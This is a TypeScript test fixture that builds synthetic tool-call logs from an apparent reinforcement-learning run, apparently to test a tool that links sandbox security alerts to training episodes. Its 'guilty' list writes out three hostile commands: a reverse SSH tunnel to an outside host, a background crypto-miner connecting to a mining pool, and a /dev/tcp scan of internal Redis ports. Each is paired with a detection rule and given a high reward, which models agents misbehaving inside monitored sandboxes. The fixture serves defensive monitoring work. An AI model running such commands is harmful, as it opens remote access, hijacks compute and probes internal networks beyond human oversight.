// The calls of the sample case: ordinary ones in every box, and three kinds that none should have made.

import { toIso } from '../../src/base/time.ts'
import type { EpisodeRow } from '../../src/exporters/api.ts'
import type { AttributionLine, ToolCallLine } from '../../src/schema/summary.ts'

export const startUs = Date.UTC(2026, 10, 23, 22, 0, 0) * 1000
export const spanUs = 6 * 3600 * 1e6
export const skewMs = 423_000

const ordinary = [
  ['execute_bash', 'pytest -x tests/test_parser.py'],
  ['execute_bash', 'git status && git diff --stat'],
  ['execute_bash', 'pip install -r requirements.txt'],
  ['str_replace_editor', '{"command":"view","path":"/repo/src/parser.py"}'],
  ['execute_bash', 'grep -rn "def parse" src | head'],
  ['execute_bash', 'python -m build 2>&1 | tail -5'],
] as const

export const guilty = [
  {
    command: 'ssh -o StrictHostKeyChecking=no -fNR 0.0.0.0:2222:localhost:22 ops@198.51.100.7 -p 443',
    ip: '198.51.100.7',
    port: 443,
    name: null,
    rule: 'EGRESS-SSH-NONSTANDARD-PORT',
  },
  {
    command: 'nohup ./lib/worker -o stratum+tcp://pool.example.net:3333 -u 4Axyz --gpu >/dev/null 2>&1 &',
    ip: '203.0.113.40',
    port: 3333,
    name: 'pool.example.net',
    rule: 'ET COINMINER stratum login',
  },
  {
    command: 'for i in $(seq 1 254); do (echo > /dev/tcp/10.20.0.$i/6379) 2>/dev/null && echo $i; done',
    ip: '10.20.0.17',
    port: 6379,
    name: null,
    rule: 'INTERNAL-PROBE',
  },
] as const

/** mulberry32: a small generator, the same everywhere. */
export function random(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
}

export function makeCalls(
  boxes: number,
  count: number,
  next: () => number,
  text: (clean: string) => string,
): ToolCallLine[] {
  const every = spanUs / Math.ceil(count / boxes)
  return Array.from({ length: count }, (_, i) => {
    const box = i % boxes
    const round = Math.floor(i / boxes)
    const episode = box + boxes * Math.floor(round / 12)
    const fromUs = Math.round(startUs + round * every + next() * every * 0.4)
    const bad = box < 3 && round % 9 === 4 ? guilty[box] : undefined
    const [name, command] = bad
      ? (['execute_bash', bad.command] as const)
      : ordinary[Math.floor(next() * ordinary.length)]!
    return {
      uid: `call${String(i).padStart(5, '0')}`,
      sourceId: `call_${i}`,
      run: 'rome-rl-30b',
      episode: `ep-${String(episode).padStart(4, '0')}`,
      turn: round % 12,
      step: 112 + Math.floor(round / 6),
      policyVersion: `ckpt-${112 + Math.floor(round / 6)}`,
      reward: bad ? 0.82 : Number((next() * 0.7).toFixed(2)),
      name,
      command: text(command),
      start: toIso(fromUs),
      end: next() < 0.06 ? null : toIso(Math.round(fromUs + every * (0.05 + next() * 0.5))),
      uncertaintyMs: 250,
      timeSource: 'executor',
      box: text(`sandbox-${box + 1}`),
      file: text(`traces/rollout-${112 + Math.floor(round / 6)}.jsonl`),
      line: i + 1,
    }
  }).sort((a, b) => (a.start < b.start ? -1 : 1))
}

export function makeEpisodes(
  calls: readonly ToolCallLine[],
  attributions: readonly AttributionLine[],
): EpisodeRow[] {
  const byEpisode = new Map<string, ToolCallLine[]>()
  for (const call of calls) {
    const list = byEpisode.get(call.episode ?? '')
    if (list) list.push(call)
    else byEpisode.set(call.episode ?? '', [call])
  }
  return [...byEpisode]
    .map(([episode, own]): EpisodeRow => {
      const events = attributions.filter((a) => a.episode === episode)
      const first = own[0]!
      return {
        episode,
        run: first.run,
        step: first.step,
        policyVersion: first.policyVersion,
        box: first.box,
        reward: first.reward,
        calls: own.length,
        events: events.length,
        findings: events.length > 0 ? 1 : 0,
        worst: events.length > 2 ? 'critical' : events.length > 0 ? 'high' : null,
        firstTime: first.start,
        lastTime: own.at(-1)!.end ?? own.at(-1)!.start,
      }
    })
    .sort((a, b) => b.findings - a.findings || b.events - a.events || (a.episode < b.episode ? -1 : 1))
}
